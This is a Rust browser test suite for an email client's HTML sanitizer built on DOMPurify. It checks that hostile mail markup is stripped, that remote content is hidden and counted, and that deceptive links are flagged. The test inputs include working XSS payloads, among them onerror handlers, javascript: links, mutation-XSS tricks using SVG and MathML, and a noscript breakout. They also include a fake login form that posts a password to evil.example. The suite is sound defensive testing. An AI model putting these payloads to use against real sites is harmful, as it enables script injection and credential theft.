//! The HTML mail sanitizer's configuration (src/mail_html.js), in a real browser: hostile HTML
//! in, and what comes out. DOMPurify is the npm package the build ships (loaded here as the app
//! would load it, from node_modules).

#![cfg(target_arch = "wasm32")]

use tandem::mail_html::{cid_map, sanitize_to_string, Shown};
use wasm_bindgen_test::*;

wasm_bindgen_test_configure!(run_in_browser);

const PURIFY: &str = include_str!("../node_modules/dompurify/dist/purify.min.js");

fn load_purify() {
    let window = web_sys::window().unwrap();
    if js_sys::Reflect::get(&window, &"DOMPurify".into()).is_ok_and(|v| !v.is_undefined()) {
        return;
    }
    let document = window.document().unwrap();
    let script = document.create_element("script").unwrap();
    script.set_text_content(Some(PURIFY));
    document.head().unwrap().append_child(&script).unwrap();
}

/// Sanitized as shown: remote content hidden, links live.
fn clean(html: &str) -> (String, Shown) {
    load_purify();
    sanitize_to_string(html, false, true, &cid_map([])).unwrap()
}

fn assert_none(out: &str, needles: &[&str]) {
    let lower = out.to_lowercase();
    for n in needles {
        assert!(!lower.contains(&n.to_lowercase()), "{n:?} survived in {out}");
    }
}

#[wasm_bindgen_test]
fn scripts_handlers_and_javascript_links_go_and_the_text_stays() {
    let (out, _) = clean(
        r#"<p>Hello <b>you</b></p><script>window.pwned=1</script><img src=x onerror="window.pwned=2"><a href="javascript:alert(1)">click</a>
        <a href=" JaVaScRiPt:alert(1)">two</a><a href="data:text/html,<script>alert(1)</script>">three</a><div onclick="x()" onmouseover="y()">hover</div>
        <iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf"><noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
    );
    assert_none(
        &out,
        &["<script", "onerror", "javascript:", "onclick", "onmouseover", "<iframe", "<object", "<embed", "data:text/html", "pwned"],
    );
    assert!(out.contains("<p>Hello <b>you</b></p>"), "{out}");
    for text in ["click", "two", "three", "hover"] {
        assert!(out.contains(text), "{text} is kept as text: {out}");
    }
}

#[wasm_bindgen_test]
fn svg_and_mathml_mutation_xss_classics_are_inert() {
    let (out, _) = clean(
        r#"<svg><p><style><img src=x onerror=alert(1)></style></p></svg>
        <math><mtext><table><mglyph><style><img src=x onerror=alert(2)></style></mglyph></table></mtext></math>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(3)>
        <svg><a xlink:href="javascript:alert(4)"><text x="20" y="20">XSS</text></a></svg>
        <noscript><style></noscript><img src=x onerror=alert(5)></style></noscript>"#,
    );
    assert_none(&out, &["onerror", "<svg", "<math", "javascript:", "xlink"]);
}

#[wasm_bindgen_test]
fn forms_meta_refresh_base_and_link_prefetch_go() {
    let (out, _) = clean(
        r#"<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
        <link rel="prefetch" href="https://evil.example/p"><link rel="stylesheet" href="https://evil.example/s.css">
        <form action="https://evil.example/steal" method="post"><input name="password" value="x"><button formaction="https://evil.example/">Log in</button>
        <textarea>typed</textarea><select><option>one</option></select></form><a href="https://ok.example/" ping="https://evil.example/ping">ok</a>"#,
    );
    assert_none(
        &out,
        &["<meta", "<base", "<link", "<form", "<input", "<button", "<textarea", "<select", "evil.example", "ping=", "formaction"],
    );
    assert!(out.contains("Log in"), "a button's text stays: {out}");
}

#[wasm_bindgen_test]
fn remote_content_in_attributes_and_css_is_hidden_and_counted() {
    let html = r#"<style>@import url("https://t.example/a.css"); @import 'https://t.example/b.css';
        @font-face { font-family: X; src: url(https://t.example/f.woff2) }
        .hero { background: url('https://t.example/bg.png') no-repeat; background-image: image-set("https://t.example/i.png" 1x) }
        .local { background: url(data:image/png;base64,iVBORw0KGgo=) }</style>
        <table background="https://t.example/table.png"><tr><td style="background-image:url(https://t.example/td.png)">cell</td></tr></table>
        <img src="https://t.example/pixel.gif" alt="logo" srcset="https://t.example/a.png 2x"><img src="//t.example/p2.gif">
        <picture><source srcset="https://t.example/s.webp"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline"></picture>
        <video poster="https://t.example/poster.png"><source src="https://t.example/v.mp4"></video><p>text</p>"#;
    let (out, shown) = clean(html);
    assert_none(&out, &["t.example", "@import", "@font-face", "image-set", "<video", "<source"]);
    assert!(out.contains("data:image/png;base64,iVBORw0KGgo="), "data: images stay: {out}");
    assert!(out.contains(r#"alt="logo""#) && out.contains("cell") && out.contains("text"), "{out}");
    assert!(shown.remote >= 9, "each remote resource counts, got {}", shown.remote);

    let (shown_out, _) = sanitize_to_string(html, true, true, &cid_map([])).unwrap();
    assert!(shown_out.contains(r#"src="https://t.example/pixel.gif""#), "shown on request: {shown_out}");
    assert!(shown_out.contains("https://t.example/bg.png"), "CSS backgrounds too: {shown_out}");
    assert_none(&shown_out, &["@import", "@font-face"]);
}

#[wasm_bindgen_test]
fn inline_cid_images_take_their_blob_url() {
    load_purify();
    let map = cid_map([("logo@x", "blob:http://localhost/1234")]);
    let (out, shown) = sanitize_to_string(
        r#"<img src="cid:logo@x"><img src="CID:other@x"><div style="background:url(cid:logo@x)">b</div>"#,
        false,
        true,
        &map,
    )
    .unwrap();
    assert!(out.contains(r#"<img src="blob:http://localhost/1234">"#), "{out}");
    assert!(out.contains(r#"url(&quot;blob:http://localhost/1234&quot;)"#), "{out}");
    assert!(!out.to_lowercase().contains("cid:"), "an unknown cid shows nothing: {out}");
    assert_eq!(shown.remote, 0);
}

#[wasm_bindgen_test]
fn links_open_in_a_new_tab_show_their_target_and_a_lying_link_is_flagged() {
    let (out, _) = clean(
        r#"<a href="https://evil.example/login">https://www.mybank.com/login</a><a href="https://news.example.com/a" title="Read">news.example.com</a>
        <a href="relative/path">rel</a><a href="mailto:a@b.example">mail</a>"#,
    );
    let holder = web_sys::window().unwrap().document().unwrap().create_element("div").unwrap();
    holder.set_inner_html(&out);
    let links = holder.query_selector_all("a").unwrap();
    let a = |i: u32| -> web_sys::Element { wasm_bindgen::JsCast::unchecked_into(links.item(i).unwrap()) };
    let lying = a(0);
    assert_eq!(lying.get_attribute("target").as_deref(), Some("_blank"));
    assert_eq!(lying.get_attribute("rel").as_deref(), Some("noopener noreferrer"));
    assert!(lying.get_attribute("class").unwrap_or_default().contains("tandem-mismatch"));
    assert_eq!(lying.get_attribute("title").as_deref(), Some("This link goes to evil.example, not mybank.com: https://evil.example/login"));
    let honest = a(1);
    assert!(!honest.get_attribute("class").unwrap_or_default().contains("tandem-mismatch"), "a subdomain named by its parent is not a lie");
    assert_eq!(honest.get_attribute("title").as_deref(), Some("Read — https://news.example.com/a"));
    assert_eq!(a(2).get_attribute("href"), None, "no base: a relative link goes nowhere");
    assert_eq!(a(3).get_attribute("href").as_deref(), Some("mailto:a@b.example"));
}

#[wasm_bindgen_test]
fn an_untrusted_message_has_inert_links() {
    load_purify();
    let (out, _) = sanitize_to_string(r#"<a href="https://evil.example/">Verify your account</a>"#, false, false, &cid_map([])).unwrap();
    assert!(!out.contains("href="), "{out}");
    assert!(out.contains("tandem-inert") && out.contains("Link disabled: https://evil.example/"), "{out}");
}

#[wasm_bindgen_test]
fn a_newsletter_head_keeps_its_style_and_loses_its_title() {
    let (out, shown) = clean(
        r##"<!DOCTYPE html><html><head><title>Weekly news</title><meta charset="utf-8"><style>.x { color: #333 }</style></head>
        <body bgcolor="#eeeeee"><table><tr><td class="x">Issue 42</td></tr></table></body></html>"##,
    );
    assert!(out.contains("<style>.x { color: #333 }</style>"), "head styles are kept with FORCE_BODY: {out}");
    assert!(!out.contains("Weekly news"), "the title is not body text: {out}");
    assert!(out.contains("Issue 42"));
    assert!(shown.colored, "a mail that sets its colours is shown on its own background");
    assert!(!clean("<p>plain words</p>").1.colored);
}

/// The figure of issue 11: a 200 KB HTML newsletter with 50 images, sanitized and in its frame
/// (the real path: sanitize, the frame's skeleton loaded, the fragment imported, measured).
#[wasm_bindgen_test]
async fn a_200_kb_newsletter_with_50_images_is_in_its_frame_quickly() {
    load_purify();
    let block = include_str!("../core/tests/corpus/newsletter_tables.html");
    let body = &block[block.find("<body").unwrap_or(0)..];
    let mut html = String::from(&block[..block.find("<body").unwrap_or(0)]);
    let copies = (200 * 1024) / body.len() + 1;
    let mut images = 0;
    for _ in 0..copies {
        html.push_str(body);
        for _ in 0..(50 / copies + 1) {
            if images < 50 {
                html.push_str(&format!(
                    r#"<img src="https://img.example.com/{images}.png" width="600" height="300" alt="picture {images}">"#
                ));
                images += 1;
            }
        }
    }
    let document = web_sys::window().unwrap().document().unwrap();
    let iframe: web_sys::HtmlElement = wasm_bindgen::JsCast::unchecked_into(document.create_element("iframe").unwrap());
    iframe.set_attribute("sandbox", "allow-same-origin").unwrap();
    document.body().unwrap().append_child(&iframe).unwrap();
    let performance = web_sys::window().unwrap().performance().unwrap();
    let median = |mut times: Vec<f64>| {
        times.sort_by(f64::total_cmp);
        times[times.len() / 2]
    };
    let (mut sanitizing, mut all_images) = (Vec::new(), 0);
    for _ in 0..5 {
        let start = performance.now();
        let (clean, _) = sanitize_to_string(&html, false, true, &cid_map([])).unwrap();
        sanitizing.push(performance.now() - start);
        all_images = clean.matches("<img").count() as u32;
    }
    let (mut first_screens, mut times) = (Vec::new(), Vec::new());
    for _ in 0..5 {
        performance.clear_marks_with_mark_name("tandem:mail-first-screen");
        let start = performance.now();
        let shown = tandem::mail_html::render(&iframe, &html, false, true, &cid_map([])).await.unwrap();
        times.push(performance.now() - start);
        let mark = performance.get_entries_by_name("tandem:mail-first-screen").get(0);
        let mark: web_sys::PerformanceEntry = wasm_bindgen::JsCast::unchecked_into(mark);
        first_screens.push(mark.start_time() - start);
        assert!(shown.remote >= 50);
        let frame: web_sys::HtmlIFrameElement = wasm_bindgen::JsCast::unchecked_into(iframe.clone());
        let images = frame.content_document().unwrap().query_selector_all("img").unwrap().length();
        assert_eq!(images, all_images, "the whole mail replaced its first screens");
    }
    let (sanitized, first, shown) = (median(sanitizing), median(first_screens), median(times));
    console_log!("METRIC html_mail_200kb_sanitize_ms {sanitized:.1} ms ({} KB, {images} images)", html.len() / 1024);
    console_log!("METRIC html_mail_200kb_first_screen_ms {first:.1} ms (its first screens sanitized and laid out in the frame)");
    console_log!("METRIC html_mail_200kb_render_ms {shown:.1} ms (all of it sanitized, frame loaded, imported, measured)");
    iframe.remove();
}
